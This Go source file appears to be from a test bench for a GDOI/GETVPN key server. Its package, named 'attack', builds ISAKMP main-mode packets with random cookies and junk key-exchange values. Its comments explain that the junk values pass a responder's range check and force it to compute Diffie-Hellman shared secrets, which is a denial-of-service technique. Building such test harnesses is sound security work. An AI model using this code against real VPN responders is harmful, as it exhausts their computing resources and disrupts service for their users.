package attack

import (
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
)

// ISAKMP numbers used here (RFC 2408 §3.1, RFC 6407 §5), written out so the
// bench does not take them from the code under test.
const (
	headerLen = 28

	payloadNone   = 0
	payloadSA     = 1
	payloadProp   = 2
	payloadTrans  = 3
	payloadKE     = 4
	payloadID     = 5
	payloadHash   = 8
	payloadNonce  = 10
	payloadNotify = 11
	payloadDelete = 12
	payloadVID    = 13
	payloadSAK    = 15
	payloadSAT    = 16
	payloadKD     = 17
	payloadSEQ    = 18
	payloadGAP    = 22

	exchMainMode = 2
	exchInfo     = 5
	exchPull     = 32
	exchPush     = 33

	flagEncryption = 0x01

	doiGDOI = 2

	// NotifyInvalidCookie is RFC 2408's INVALID-COOKIE (4).
	NotifyInvalidCookie = 4
	// NotifyAuthenticationFailed is RFC 2408's AUTHENTICATION-FAILED (24).
	NotifyAuthenticationFailed = 24
)

// Header is the part of an ISAKMP header the attacks read from replies.
type Header struct {
	ICookie, RCookie [8]byte
	NextPayload      uint8
	Exchange         uint8
	Flags            uint8
	MessageID        uint32
	Length           uint32
}

// ErrShort is returned for a datagram shorter than an ISAKMP header.
var ErrShort = errors.New("attack: datagram shorter than an ISAKMP header")

// ParseHeader reads an ISAKMP header (no length check against the datagram:
// replies are only looked at, never trusted).
func ParseHeader(b []byte) (Header, error) {
	if len(b) < headerLen {
		return Header{}, ErrShort
	}
	var h Header
	copy(h.ICookie[:], b[0:8])
	copy(h.RCookie[:], b[8:16])
	h.NextPayload = b[16]
	h.Exchange = b[18]
	h.Flags = b[19]
	h.MessageID = binary.BigEndian.Uint32(b[20:])
	h.Length = binary.BigEndian.Uint32(b[24:])
	return h, nil
}

// header appends an ISAKMP header whose length field is set to the length
// of the header plus body.
func header(icky, rcky [8]byte, next, exch, flags uint8, mid uint32, body []byte) []byte {
	b := make([]byte, 0, headerLen+len(body))
	b = append(b, icky[:]...)
	b = append(b, rcky[:]...)
	b = append(b, next, 0x10, exch, flags) // version 1.0
	b = binary.BigEndian.AppendUint32(b, mid)
	b = binary.BigEndian.AppendUint32(b, uint32(headerLen+len(body)))
	return append(b, body...)
}

// payload appends a generic payload header (next, reserved, length) and body.
func payload(b []byte, next uint8, body []byte) []byte {
	b = append(b, next, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(4+len(body)))
	return append(b, body...)
}

func basicAttr(b []byte, t, v uint16) []byte {
	b = binary.BigEndian.AppendUint16(b, 0x8000|t)
	return binary.BigEndian.AppendUint16(b, v)
}

func varAttr(b []byte, t uint16, v []byte) []byte {
	b = binary.BigEndian.AppendUint16(b, t)
	b = binary.BigEndian.AppendUint16(b, uint16(len(v)))
	return append(b, v...)
}

// Phase1 is the one transform a main-mode message 1 offers.
type Phase1 struct {
	Encryption uint16 // 7 AES-CBC, 5 3DES-CBC
	KeyLength  uint16 // AES key bits, 0 for none
	Hash       uint16 // 2 SHA-1, 4 SHA2-256
	Group      uint16 // 14 (MODP 2048), 19 (ECP 256)
	Lifetime   uint32 // seconds
}

// DefaultPhase1 is what a GETVPN GM commonly offers: AES-256, SHA-256,
// pre-shared key, MODP group 14, one day.
var DefaultPhase1 = Phase1{Encryption: 7, KeyLength: 256, Hash: 4, Group: 14, Lifetime: 86400}

// saPayloadBody is the body of a GDOI phase-1 SA payload (RFC 6407 §2.1:
// DOI 2, situation 1) with one ISAKMP proposal of one KEY_IKE transform.
func (p Phase1) saPayloadBody() []byte {
	var attrs []byte
	attrs = basicAttr(attrs, 1, p.Encryption)
	if p.KeyLength != 0 {
		attrs = basicAttr(attrs, 14, p.KeyLength)
	}
	attrs = basicAttr(attrs, 2, p.Hash)
	attrs = basicAttr(attrs, 3, 1) // pre-shared key
	attrs = basicAttr(attrs, 4, p.Group)
	attrs = basicAttr(attrs, 11, 1) // life type: seconds
	attrs = varAttr(attrs, 12, binary.BigEndian.AppendUint32(nil, p.Lifetime))
	// Transform: number 1, KEY_IKE (1), reserved.
	trans := payload(nil, payloadNone, append([]byte{1, 1, 0, 0}, attrs...))
	// Proposal: number 1, protocol ISAKMP (1), SPI size 0, one transform.
	prop := payload(nil, payloadNone, append([]byte{1, 1, 0, 1}, trans...))
	body := binary.BigEndian.AppendUint32(nil, doiGDOI)
	body = binary.BigEndian.AppendUint32(body, 1) // situation: SIT_IDENTITY_ONLY
	return append(body, prop...)
}

// MainMode1 returns a main-mode message 1 with initiator cookie icky
// offering p.
func MainMode1(icky [8]byte, p Phase1) []byte {
	return header(icky, [8]byte{}, payloadSA, exchMainMode, 0, 0, payload(nil, payloadNone, p.saPayloadBody()))
}

// MainMode3 returns a main-mode message 3 (KE, NONCE) for the exchange
// icky|rcky with key-exchange data ke and nonce nonce.
func MainMode3(icky, rcky [8]byte, ke, nonce []byte) []byte {
	body := payload(nil, payloadNonce, ke)
	body = payload(body, payloadNone, nonce)
	return header(icky, rcky, payloadKE, exchMainMode, 0, 0, body)
}

// RandomCookie returns a random non-zero cookie.
func RandomCookie() [8]byte {
	var c [8]byte
	for c == ([8]byte{}) {
		if _, err := rand.Read(c[:]); err != nil {
			panic(fmt.Sprintf("attack: crypto/rand: %v", err))
		}
	}
	return c
}

// KE returns key-exchange data for group. For the MODP groups it is a
// random value of the prime's length with the top bit clear, so below the
// prime (whose top octets are 0xff, RFC 3526) and above 1: it passes a
// responder's range check and makes it compute g^xy. For the ECP groups it
// is random octets of a point's length, which a careful responder refuses.
// The attacker holds no private key for it: it cannot finish the exchange
// and does not need to.
func KE(group uint16) []byte {
	n := 256
	switch group {
	case 2:
		n = 128
	case 5:
		n = 192
	case 14:
		n = 256
	case 19:
		n = 64
	case 20:
		n = 96
	}
	b := make([]byte, n)
	_, _ = rand.Read(b)
	if group == 2 || group == 5 || group == 14 {
		b[0] = b[0]&0x7f | 0x40
	}
	return b
}

// Nonce returns a random 32-octet nonce.
func Nonce() []byte {
	b := make([]byte, 32)
	_, _ = rand.Read(b)
	return b
}

// NotifyType returns the notify message type of an Informational reply
// whose first payload is a plaintext Notification, and false otherwise.
func NotifyType(reply []byte) (uint16, bool) {
	h, err := ParseHeader(reply)
	if err != nil || h.Exchange != exchInfo || h.Flags&flagEncryption != 0 || h.NextPayload != payloadNotify {
		return 0, false
	}
	// Notification: generic header (4), DOI (4), protocol, SPI size, type.
	if len(reply) < headerLen+12 {
		return 0, false
	}
	return binary.BigEndian.Uint16(reply[headerLen+10:]), true
}
